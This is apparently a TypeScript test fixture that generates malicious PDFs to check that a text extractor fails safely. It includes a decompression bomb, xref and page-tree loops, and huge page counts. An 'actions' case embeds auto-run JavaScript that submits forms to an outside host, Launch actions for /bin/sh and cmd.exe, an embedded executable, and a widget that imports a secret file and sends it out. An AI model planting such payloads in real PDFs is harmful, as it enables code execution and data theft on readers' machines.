import { column, numbered, type PdfObject, pdfObjects, pdfOf } from '../pdf.ts'
import { away, type Hostile, million, secret } from './hostile.ts'

const page = [column(['Words of the document'], 50, 700)]
const says = { says: ['Words of the document'] }

/** The objects of a small document, some changed by their number; further ones follow from 10 on. */
function changed(instead: Record<number, (object: string) => PdfObject>, more: PdfObject[] = []): PdfObject[] {
  const objects = pdfObjects(page).map((object, i) => {
    const change = instead[i + 1]
    return change ? change(typeof object === 'string' ? object : object.stream) : object
  })
  return [...objects, ...more]
}
const entries = (added: string) => (object: string) => object.replace(/>>$/, `${added} >>`)

export const pdfs: Hostile[] = [
  {
    name: 'flate-bomb.pdf',
    bytes: () =>
      numbered(changed({ 9: (stream) => ({ entries: '', stream: stream + ' '.repeat(300 * million) }) }), {
        packed: true,
      }),
    ends: ['fileTooSlow', 'fileUnpacksTooLarge'],
  },
  {
    name: 'password.pdf',
    bytes: () =>
      numbered(pdfObjects(page), {
        trailer: `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'ab'.repeat(32)}> /U <${'cd'.repeat(32)}> >>`,
      }),
    ends: 'fileLocked',
  },
  {
    name: 'actions.pdf',
    bytes: () =>
      numbered(
        changed(
          {
            1: entries(
              `/OpenAction 10 0 R /AA << /WC 10 0 R /WP 11 0 R >> /Names << /JavaScript << /Names [(a) 10 0 R] >> /EmbeddedFiles << /Names [(a.exe) 12 0 R] >> >>`,
            ),
            8: entries('/AA << /O 11 0 R /C 14 0 R >> /Annots [15 0 R 16 0 R]'),
          },
          [
            `<< /S /JavaScript /JS (app.launchURL\\("${away}"\\); this.submitForm\\("${away}"\\)) >>`,
            '<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>',
            '<< /Type /Filespec /F (a.exe) /EF << /F 13 0 R >> >>',
            { entries: '/Type /EmbeddedFile', stream: 'MZ harm' },
            `<< /S /URI /URI (${away}) >>`,
            '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 14 0 R >>',
            `<< /Type /Annot /Subtype /Widget /FT /Tx /T (x) /Rect [0 0 9 9] /AA << /E << /S /ImportData /F (${secret}) >> /X << /S /SubmitForm /F (${away}) >> >> >>`,
          ],
        ),
      ),
    ends: { ...says, never: ['harm', 'tracker', 'launchURL'] },
  },
  {
    name: 'stream-elsewhere.pdf',
    bytes: () =>
      numbered(changed({ 8: entries('/B [10 0 R]') }, [{ entries: `/F << /FS /URL /F (${away}) >>`, stream: '' }])),
    ends: says,
  },
  {
    name: 'xref-loop.pdf',
    bytes: () => {
      const file = pdfOf(page).toString('latin1')
      const start = /startxref\n(\d+)/.exec(file)?.[1]
      return Buffer.from(file.replace('/Root', `/Prev ${start} /Root`), 'latin1')
    },
    ends: says,
  },
  {
    name: 'page-tree-loop.pdf',
    bytes: () => numbered(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R] /Count 1 >>']),
    ends: 'fileDamaged',
  },
  {
    name: 'a-billion-pages.pdf',
    bytes: () => numbered(changed({ 2: (object) => object.replace('/Count 1', '/Count 1000000000') })),
    ends: says,
  },
  {
    name: 'one-page-2000-times.pdf',
    bytes: () => numbered(changed({ 2: () => `<< /Type /Pages /Kids [${'8 0 R '.repeat(2_000)}] /Count 2000 >>` })),
    ends: 'fileTooManyParts',
  },
  {
    name: 'form-draws-itself.pdf',
    bytes: () =>
      numbered(
        changed(
          {
            8: (object) => object.replace('/Font', '/XObject << /X 10 0 R >> /Font'),
            9: (stream) => ({ entries: '', stream: `${stream} /X Do` }),
          },
          [
            {
              entries: '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 10 0 R >> >>',
              stream: '/X Do /X Do',
            },
          ],
        ),
      ),
    ends: says,
  },
  {
    name: 'nested-arrays.pdf',
    bytes: () => numbered(changed({ 9: (stream) => ({ entries: '', stream: `${stream}\n${'['.repeat(200_000)}` }) })),
    ends: says,
  },
  { name: 'cut-off.pdf', bytes: () => pdfOf(page).subarray(0, 700), ends: 'fileDamaged' },
  { name: 'only-a-picture.pdf', bytes: () => pdfOf([[]]), ends: 'fileNoText' },
]
